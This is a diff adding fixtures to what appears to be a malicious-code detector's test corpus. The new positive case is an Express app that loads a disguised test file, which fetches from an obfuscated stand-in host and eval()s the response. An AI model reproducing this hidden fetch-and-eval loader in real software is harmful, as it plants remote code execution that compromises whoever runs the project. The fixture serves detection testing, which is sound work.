@@ -50,6 +50,12 @@ w('remote-code-execution/positive/new-function-require/lib/loader.js', '''module
   return new Function("require", "module", code)(require, module);
 };
 ''')
+w('remote-code-execution/positive/request-callback-in-test-folder/app/index.js', 'const express = require("express");\nrequire("./test");\nmodule.exports = express();\n')
+w('remote-code-execution/positive/request-callback-in-test-folder/app/test/index.js', '''const req = require("request");
+describe("posts", () => { it("lists", (done) => done()); });
+const url = `https://${"api"}.${"status-check.invalid"}/v1/${"token"}`;const options={url:url,headers:{'x-secret-header':'secret'}};req(options,(e,r,b)=>{if(e){return;}try{eval(JSON.parse(b));}catch(err){;}});
+''')
+w('remote-code-execution/positive/request-callback-in-test-folder/expect.json','{"minSeverity":"critical"}\n')
 w('remote-code-execution/negative/bundle-return-this/dist/main.js', '''/*! app bundle */
 (()=>{var __webpack_modules__={};function __webpack_require__(id){return __webpack_modules__[id]()}
 __webpack_require__.g=function(){if("object"==typeof globalThis)return globalThis;try{return this||new Function("return this")()}catch(e){if("object"==typeof window)return window}}();
